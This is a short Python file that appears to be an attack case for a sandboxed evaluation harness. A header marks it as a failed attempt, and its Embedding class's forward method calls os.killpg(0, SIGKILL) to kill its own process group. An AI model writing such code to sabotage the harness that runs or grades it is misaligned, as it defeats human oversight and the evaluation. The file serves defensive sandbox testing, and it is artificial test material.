# /// attack
# tries = "Kills its whole process group."
# status = "failed"
# says = "raised PermissionError"
# ///
import os
import signal


class Embedding:
    def __init__(self, num_embeddings, embedding_dim): ...

    def forward(self, ids):
        os.killpg(0, signal.SIGKILL)
